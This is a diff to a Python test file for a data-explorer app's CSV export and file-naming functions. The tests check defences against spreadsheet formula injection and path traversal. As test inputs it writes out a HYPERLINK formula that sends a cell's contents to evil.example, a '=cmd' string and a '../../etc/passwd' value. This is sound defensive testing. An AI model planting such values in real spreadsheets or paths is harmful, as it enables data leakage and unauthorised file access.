@@ -8,7 +8,7 @@ import io
 import pandas as pd
 import pytest
 
-from igf_explorer.exports import neutralise, safe_csv
+from igf_explorer.exports import FILE_PREFIX, file_stem, neutralise, safe_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -101,3 +101,42 @@ def test_line_breaks_inside_a_cell_never_split_the_row() -> None:
     frame = pd.DataFrame({"Note": ["first\rsecond", "one\nтwo", "plain"], "Value": [1, 2, 3]})
     rows = rows_of(safe_csv(frame, "test"))
     assert len(rows) == 5 and [r[0] for r in rows[2:]] == ["first\rsecond", "one\nтwo", "plain"]
+
+
+def test_a_views_table_with_a_formula_looking_country_downloads_safely() -> None:
+    # The Map's table as the view builds it (Country, value text, Status, Period), one name planted by a data file.
+    frame = pd.DataFrame(
+        {
+            "Country": ["Iceland", '=HYPERLINK("http://evil.example","x")', "-Chad"],
+            "FOTN total": ["94", "87", "-3.5"],
+            "Status": ["Free", "@Free", "Not Free"],
+            "Period": [2019, 2019, 2019],
+        }
+    )
+    text = safe_csv(frame, "Freedom House: Freedom on the Net · licence: see sidecar")
+    rows = rows_of(text)
+    assert rows[0] == ["# Source: Freedom House: Freedom on the Net · licence: see sidecar"]
+    assert rows[1] == list(frame.columns)
+    assert [r[0] for r in rows[2:]] == ["Iceland", '\'=HYPERLINK("http://evil.example","x")', "'-Chad"]
+    assert [r[1] for r in rows[2:]] == ["94", "87", "-3.5"]  # numbers written as text stay numbers
+    assert rows[3][2] == "'@Free" and rows[2][3] == "2019"
+    assert text.endswith("\r\n") and len(rows) == 2 + len(frame)
+
+
+def test_a_multi_line_source_stays_one_line() -> None:
+    text = safe_csv(pd.DataFrame({"a": [1]}), "World Bank\nWDI\r\n=cmd")
+    assert text.split("\r\n")[0] == "# Source: World Bank WDI =cmd"
+
+
+@pytest.mark.parametrize(
+    ("parts", "expected"),
+    [
+        (("map", "fotn_total", 2019, None), f"{FILE_PREFIX}-map-fotn_total-2019"),
+        (("map", "internet_users", 2023, "eastern-africa"), f"{FILE_PREFIX}-map-internet_users-2023-eastern-africa"),
+        (("country.panel.0.PAK", "Freedom on the Net"), f"{FILE_PREFIX}-country-panel-0-pak-freedom-on-the-net"),
+        (("../../etc/passwd", ""), f"{FILE_PREFIX}-etc-passwd"),
+        (("Côte d'Ivoire",), f"{FILE_PREFIX}-c-te-d-ivoire"),
+    ],
+)
+def test_file_stems_name_the_view_and_are_safe(parts: tuple[str | int | None, ...], expected: str) -> None:
+    assert file_stem(*parts) == expected
